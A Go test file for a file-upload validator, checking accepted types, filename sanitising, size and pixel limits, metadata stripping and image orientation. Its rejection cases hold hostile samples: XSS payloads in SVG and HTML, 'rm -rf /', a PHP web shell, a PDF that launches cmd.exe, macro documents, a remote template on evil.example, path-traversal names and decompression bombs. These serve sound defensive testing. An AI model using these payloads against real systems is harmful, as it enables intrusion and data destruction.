package upload_test

import (
	"bytes"
	"image"
	"strings"
	"testing"

	"kontor/internal/kit/upload"
)

func any(t *testing.T, name string, content []byte) (upload.File, []string) {
	t.Helper()
	f, problems, err := upload.New().Any(t.Context(), name, bytes.NewReader(content))
	if err != nil {
		t.Fatal(err)
	}
	return f, problems
}

func TestJudge_TakesWhatIsGood(t *testing.T) {
	for name, c := range map[string]struct {
		content []byte
		name    string
		media   string
	}{
		"photo.JPEG":                  {jpegOf(t, 900, 400), "photo.JPEG", "image/jpeg"},
		"picture.png":                 {pngOf(t, 4000, 20), "picture.png", "image/png"},
		"not what it says.png":        {jpegOf(t, 20, 20), "not what it says.jpg", "image/jpeg"},
		"move.gif":                    {gifOf(t, 40, 30, 3), "move.gif", "image/gif"},
		"Оферта № 7.pdf":              {[]byte(pdfText), "Оферта № 7.pdf", "application/pdf"},
		"letter.docx":                 {docxOf(t), "letter.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"},
		"old.doc":                     {docOf("WordDocument", "1Table"), "old.doc", "application/msword"},
		"from.txt":                    {[]byte("<anna@x.example> wrote: 1 <b"), "from.txt", "text/plain; charset=utf-8"},
		"notes.txt":                   {[]byte("Обадих се.\r\nЩе се видим."), "notes.txt", "text/plain; charset=utf-8"},
		"cp1251.txt":                  {[]byte("\xce\xf4\xe5\xf0\xf2\xe0 \xe7\xe0 \xe2\xe0\xf1"), "cp1251.txt", "text/plain; charset=utf-8"},
		"../../etc/invoice.pdf.exe":   {[]byte(pdfText), "invoice.pdf.exe.pdf", "application/pdf"},
		`C:\temp\CON.txt`:             {[]byte("x"), "_CON.txt", "text/plain; charset=utf-8"},
		"a\u202Egpj.exe":              {jpegOf(t, 9, 9), "agpj.exe.jpg", "image/jpeg"},
		"line\nbreak\x00 <b>.txt":     {[]byte("x"), "line break b.txt", "text/plain; charset=utf-8"},
		"..":                          {pngOf(t, 9, 9), "File.png", "image/png"},
		strings.Repeat("я", 400) + "": {[]byte("x"), strings.Repeat("я", 146) + ".txt", "text/plain; charset=utf-8"},
	} {
		f, problems := any(t, name, c.content)
		if len(problems) > 0 || f.Name != c.name || f.Media != c.media {
			t.Errorf("%q: %q, %s, %q", name, f.Name, f.Media, problems)
		}
		if f.IsPicture() != strings.HasPrefix(c.media, "image/") {
			t.Errorf("%q: a picture: %v", name, f.IsPicture())
		}
	}
}

func TestJudge_RefusesWhatIsNot(t *testing.T) {
	whole := pngOf(t, 30, 30)
	const wrong = "Files of this kind cannot be kept. Those of the kinds JPG, PNG, GIF, WEBP, PDF, DOC, DOCX, TXT can."
	const damaged, broken = "The picture is damaged. Choose another one.", "The document is damaged. Save it again and choose it anew."
	const macros = "The document holds macros or starts programs. Save it without them, or as PDF."
	const another = "Another file is hidden in this one. Save the document again and choose it anew."
	zipTail := docxOf(t)
	for name, c := range map[string]struct {
		content  []byte
		problems []string
	}{
		"empty":                  {nil, []string{"The file is empty."}},
		"SVG":                    {[]byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), []string{wrong}},
		"SVG behind a heading":   {[]byte(`<?xml version="1.0"?><!-- x --><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`), []string{wrong}},
		"bare SVG":               {[]byte("\xEF\xBB\xBF \n<SVG/onload=alert(1)>"), []string{wrong}},
		"HTML":                   {[]byte("<!DOCTYPE html><script>alert(1)</script>"), []string{wrong}},
		"script":                 {[]byte("#!/bin/sh\nrm -rf /\n"), []string{wrong}},
		"PHP":                    {[]byte("<?php system($_GET['x']); ?>"), []string{wrong}},
		"program":                {append([]byte("MZ\x90\x00\x03"), make([]byte, 300)...), []string{wrong}},
		"ELF":                    {append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 300)...), []string{wrong}},
		"NUL in a text":          {[]byte(strings.Repeat("a", 5000) + "\x00\x01\x02"), []string{wrong}},
		"archive":                {zipOf(t), []string{wrong}},
		"truncated":              {whole[:len(whole)-40], []string{damaged}},
		"PNG bomb":               {pngBomb(), []string{"The picture has 60000 × 60000 pixels. At most 4000 × 4000 fit."}},
		"GIF bomb":               {gifBomb(t, 500), []string{"The animation has too many pictures. Choose a shorter one."}},
		"too wide":               {pngOf(t, 4001, 2), []string{"The picture has 4001 × 2 pixels. At most 4000 × 4000 fit."}},
		"too heavy":              {append(bytes.Clone(whole), make([]byte, 5<<20)...), []string{"The picture is larger than 5 MB. Choose a smaller one."}},
		"too heavy and too wide": {append(pngOf(t, 4001, 2), make([]byte, 11<<20)...), []string{"The picture is larger than 5 MB. Choose a smaller one.", "The picture has 4001 × 2 pixels. At most 4000 × 4000 fit."}},
		"heavy document":         {append([]byte(pdfText), make([]byte, 10<<20)...), []string{"The file is larger than 10 MB. Choose a smaller one."}},
		"heavy unknown":          {append([]byte("\x7fELF"), make([]byte, 11<<20)...), []string{"The file is larger than 10 MB. Choose a smaller one.", wrong}},
		"PDF without an end":     {[]byte(pdfText[:60]), []string{broken}},
		"PDF that starts":        {[]byte(strings.Replace(pdfText, "/Catalog", "/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>", 1)), []string{macros}},
		"PDF and archive":        {append([]byte(pdfText), zipTail...), []string{another}},
		"DOCX and more":          {append(docxOf(t), "MZ and so on"...), []string{another}},
		"DOCX behind a program":  {append([]byte("PK\x03\x04MZ"), docxOf(t)...), []string{another}},
		"DOCX with macros":       {docxOf(t, part{"word/vbaProject.bin", "x"}), []string{macros}},
		"DOCM as DOCX":           {docxOf(t, part{"x/[Content_Types].xml", ""}, part{"word/_rels/vbaData.xml.rels", ""}), []string{macros}},
		"DOCX with ActiveX":      {docxOf(t, part{"word/activeX/activeX1.bin", "x"}), []string{macros}},
		"DOCX with a template": {docxOf(t, part{"word/_rels/settings.xml.rels",
			`<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/>`}), []string{macros}},
		"DOCX bomb":       {docxOf(t, part{"word/media/x.png", strings.Repeat("\x00", 101<<20)}), []string{"The document unpacks to more than 100 MB."}},
		"DOCX that lies":  {liar(t, 200<<20), []string{broken}},
		"DOC with macros": {docOf("WordDocument", "Macros"), []string{macros}},
		"XLS":             {docOf("Workbook"), []string{"This is not a document of one of the kinds PDF, DOC, DOCX, TXT."}},
		"DOC cut":         {docOf("WordDocument")[:1030], []string{broken}},
	} {
		f, problems := any(t, "x.png", c.content)
		if strings.Join(problems, "|") != strings.Join(c.problems, "|") {
			t.Errorf("%s: %q", name, problems)
		}
		if len(problems) == 0 && f.Content != nil {
			t.Errorf("%s is kept", name)
		}
	}
}

func zipOf(t *testing.T) []byte {
	return bytes.ReplaceAll(docxOf(t), []byte("word/document.xml"), []byte("word/nothing.data"))
}

func TestJudge_LeavesOnlyThePixels(t *testing.T) {
	photo := append(held(t, 60, 40, 1), docxOf(t)...)
	photo = append(photo, "<?php system('x'); ?>"...)
	f, problems := any(t, "x.jpg", photo)
	if len(problems) > 0 {
		t.Fatal(problems)
	}
	for _, hidden := range []string{"GPS", "Exif", "PK\x03\x04", "<?php"} {
		if bytes.Contains(f.Content, []byte(hidden)) {
			t.Errorf("%q is still in it", hidden)
		}
	}
}

func TestJudge_TurnsPhotosUpright(t *testing.T) {
	// Where the red quarter comes to lie, by how the camera was held.
	for orientation, at := range map[byte]image.Point{1: {0, 0}, 2: {1, 0}, 3: {1, 1}, 4: {0, 1}, 5: {0, 0}, 6: {1, 0}, 7: {1, 1}, 8: {0, 1}} {
		f, problems := any(t, "x.jpg", held(t, 60, 40, orientation))
		if len(problems) > 0 {
			t.Fatal(problems)
		}
		if wide := orientation < 5; (f.Width == 60) != wide || (f.Height == 40) != wide {
			t.Errorf("held %d: %d × %d", orientation, f.Width, f.Height)
		}
		img, _, err := image.Decode(bytes.NewReader(f.Content))
		if err != nil {
			t.Fatal(err)
		}
		r, _, _, _ := img.At(f.Width/4+at.X*f.Width/2, f.Height/4+at.Y*f.Height/2).RGBA()
		if r>>8 < 200 {
			t.Errorf("held %d: not red but %d at %v", orientation, r>>8, at)
		}
	}
}

func TestJudge_KeepsAnimationsAndMakesSmallPictures(t *testing.T) {
	f, problems := any(t, "x.gif", gifOf(t, 40, 30, 3))
	if len(problems) > 0 || bytes.Count(f.Content, []byte{0x21, 0xF9, 0x04}) != 3 {
		t.Errorf("%q, %d pictures", problems, bytes.Count(f.Content, []byte{0x21, 0xF9, 0x04}))
	}
	large, problems := any(t, "x.jpg", jpegOf(t, 4000, 1000))
	if len(problems) > 0 {
		t.Fatal(problems)
	}
	c, _, err := image.DecodeConfig(bytes.NewReader(large.Small))
	if err != nil || c.Width != 320 || c.Height != 80 || large.Width != 4000 {
		t.Errorf("small %d × %d of %d, %v", c.Width, c.Height, large.Width, err)
	}
}

func TestPortrait_IsSquare(t *testing.T) {
	square, problems, err := upload.New().Portrait(t.Context(), jpegOf(t, 900, 400))
	if err != nil || len(problems) > 0 {
		t.Fatal(problems, err)
	}
	if c, format, err := image.DecodeConfig(bytes.NewReader(square)); err != nil || format != "png" || c.Width != 256 || c.Height != 256 {
		t.Errorf("%s %d × %d, %v", format, c.Width, c.Height, err)
	}
	for name, c := range map[string]struct {
		content []byte
		problem string
	}{
		"GIF":  {gifOf(t, 9, 9, 1), "This is not a picture of one of the kinds JPG, PNG."},
		"wide": {pngOf(t, 1001, 2), "The picture has 1001 × 2 pixels. At most 1000 × 1000 fit."},
		"both": {append(pngOf(t, 1001, 2), make([]byte, 2<<20)...), "The picture is larger than 2 MB. Choose a smaller one.|The picture has 1001 × 2 pixels. At most 1000 × 1000 fit."},
	} {
		if _, problems, err := upload.New().Portrait(t.Context(), c.content); err != nil || strings.Join(problems, "|") != c.problem {
			t.Errorf("%s: %q, %v", name, problems, err)
		}
	}
}

func FuzzJudge(f *testing.F) {
	f.Add([]byte(pdfText))
	f.Add(docOf("WordDocument", "1Table"))
	f.Add(pngBomb())
	f.Add([]byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;"))
	f.Fuzz(func(t *testing.T, content []byte) {
		file, problems, err := upload.New().Any(t.Context(), "x", bytes.NewReader(content))
		if err != nil || len(problems) == 0 && len(file.Content) == 0 {
			t.Errorf("%v, %q", err, problems)
		}
	})
}
